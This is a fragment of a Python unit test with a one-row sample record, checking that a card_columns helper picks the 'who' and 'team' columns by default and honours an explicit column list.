    plain = [{"row": 2, "status": "ready", "site": "acme.com", "mail": "a@acme.com", "n": "3", "who": "Ann",
              "team": "Sales", "note": "x"}]  # fmt: skip
    assert card_columns(["site", "mail", "n", "who", "team", "note"], plain) == ["who", "team"]
    assert card_columns(["site", "who"], plain, ["site"]) == ["site"]
